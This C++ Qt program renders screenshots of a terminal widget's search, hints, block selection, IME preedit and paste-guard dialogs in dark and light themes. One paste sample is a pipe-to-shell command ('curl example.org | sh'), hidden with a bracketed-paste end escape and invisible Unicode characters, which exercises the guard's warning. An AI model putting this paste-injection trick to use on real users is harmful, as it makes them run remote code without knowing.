// Draws the search bar, hints, a block selection, the paste preview and a preedit in both schemes and writes PNG files, to
// look at: interaction_gallery DIR. With QT_SCALE_FACTOR=2 at that scale.
#include "ui/terminal/paste_guard.h"
#include "ui/terminal/terminal_fixture.h"

#include <QApplication>
#include <QInputMethodEvent>
#include <QLabel>
#include <QLineEdit>
#include <QPushButton>
#include <QTest>
#include <QTextCharFormat>

using namespace ui::terminal;

namespace {

constexpr core::base::GridSize kSize{84, 22};

void fill(TestScreen &screen)
{
    const auto fg = [](int index) {
        core::vt::Style style;
        style.fg = core::vt::Color::indexed(std::uint8_t(index));
        return style;
    };
    for (int i = 0; i < 40; ++i)
        screen.print(U"warming up");
    screen.print({{U"app@shop-api", fg(2)}, {U" /srv/app", fg(4)}, {U" $ npm test", {}}});
    screen.print({{U"  ✓ ", fg(2)}, {U"adds an item (4 ms)", {}}});
    screen.print({{U"  ✕ totals with discount", fg(1)}});
    screen.print(U"    Error: connect ECONNREFUSED 172.18.0.3:5432");
    screen.print(U"      at TCPConnectWrap.afterConnect (node:net:1494:16)");
    screen.print(U"      at src/cart.ts:88:12");
    screen.print(U"  See https://example.org/docs/errors?code=ECONNREFUSED#what-to-do and, if it goes on, ~/notes/errors.md");
    screen.print({{U"app@shop-api", fg(2)}, {U" /srv/app", fg(4)}, {U" $ git log --oneline", {}}});
    screen.print({{U"1a2b3c4d", fg(3)}, {U" Connect again after an error", {}}});
    screen.print({{U"9f8e7d6c", fg(3)}, {U" Totals: no error for an empty cart", {}}});
    screen.print(U"");
    screen.print({{U"app@shop-api", fg(2)}, {U" /srv/app", fg(4)}, {U" $ echo ", {}}});
    screen.setCursor(kSize.rows - 1, 30);
}

class Gallery
{
public:
    Gallery(QString folder, QString scheme) : m_folder(std::move(folder)), m_scheme(std::move(scheme)) {}

    bool take(const char *name, const std::function<QWidget *(TerminalWidget &)> &act)
    {
        TestScreen screen(kSize);
        fill(screen);
        auto session = std::make_shared<FakeSession>(screen.frame());
        Appearance appearance;
        appearance.font = ui::theme::monoFont();
        appearance.cursorBlink = false;
        TerminalWidget widget(session, appearance);
        widget.resize(widget.pixelSizeFor(kSize));
        widget.show();
        widget.activateWindow();
        widget.setFocus();
        if (!QTest::qWaitForWindowActive(&widget))
            return false;
        QWidget *shown = act(widget);
        QTest::qWait(300); // the search's pool thread, and the window system
        return shown->grab().save(QStringLiteral("%1/%2-%3-%4x.png").arg(m_folder, QLatin1String(name), m_scheme).arg(widget.devicePixelRatioF()));
    }

private:
    QString m_folder, m_scheme;
};

QWidget *search(TerminalWidget &widget, const char *pattern, bool regex)
{
    widget.openSearch();
    widget.findChild<QPushButton *>(QStringLiteral("searchRegex"))->setChecked(regex);
    widget.findChild<QLineEdit *>(QStringLiteral("searchPattern"))->setText(QLatin1String(pattern));
    return &widget;
}

QWidget *paste(TerminalWidget &widget, const QString &text)
{
    widget.pasteText(text);
    return widget.findChild<PasteGuard *>();
}

QWidget *blockSelection(TerminalWidget &widget)
{
    const QPointF from(120, 60), to(400, 260);
    const auto send = [&](QEvent::Type type, QPointF at, Qt::MouseButton button, Qt::MouseButtons held) {
        QMouseEvent event(type, at, widget.mapToGlobal(at), button, held, Qt::AltModifier);
        QCoreApplication::sendEvent(&widget, &event);
    };
    send(QEvent::MouseButtonPress, from, Qt::LeftButton, Qt::LeftButton);
    send(QEvent::MouseMove, to, Qt::NoButton, Qt::LeftButton);
    send(QEvent::MouseButtonRelease, to, Qt::LeftButton, Qt::NoButton);
    return &widget;
}

QWidget *preedit(TerminalWidget &widget)
{
    QTextCharFormat clause;
    clause.setUnderlineStyle(QTextCharFormat::SingleUnderline);
    QInputMethodEvent event(QStringLiteral("にほんご入力"), {{QInputMethodEvent::TextFormat, 4, 2, clause}, {QInputMethodEvent::Cursor, 4, 1, {}}});
    QCoreApplication::sendEvent(&widget, &event);
    return &widget;
}

} // namespace

int main(int argc, char **argv)
{
    QApplication app(argc, argv);
    const QString folder = argc > 1 ? QString::fromLocal8Bit(argv[1]) : QStringLiteral(".");
    bool done = true;
    for (const auto scheme : {ui::theme::Scheme::Dark, ui::theme::Scheme::Light}) {
        ui::theme::apply(app, scheme);
        Gallery gallery(folder, scheme == ui::theme::Scheme::Dark ? QStringLiteral("dark") : QStringLiteral("light"));
        done = gallery.take("search", [](TerminalWidget &widget) { return search(widget, "err(or|s)", true); })
            && gallery.take("search-wrong", [](TerminalWidget &widget) { return search(widget, "err(or", true); })
            && gallery.take("hints", [](TerminalWidget &widget) { widget.startHints(); return static_cast<QWidget *>(&widget); })
            && gallery.take("block", blockSelection)
            && gallery.take("preedit", preedit)
            && gallery.take("paste", [](TerminalWidget &widget) { return paste(widget, QStringLiteral("cd /srv/app\nrm -rf build \\\n  dist\nnpm ci\n")); })
            && gallery.take("paste-hidden", [](TerminalWidget &widget) { return paste(widget, QStringLiteral("curl example.org\x1b[201~\u202e | sh\u200b\n")); })
            && done;
    }
    return done ? 0 : 1;
}
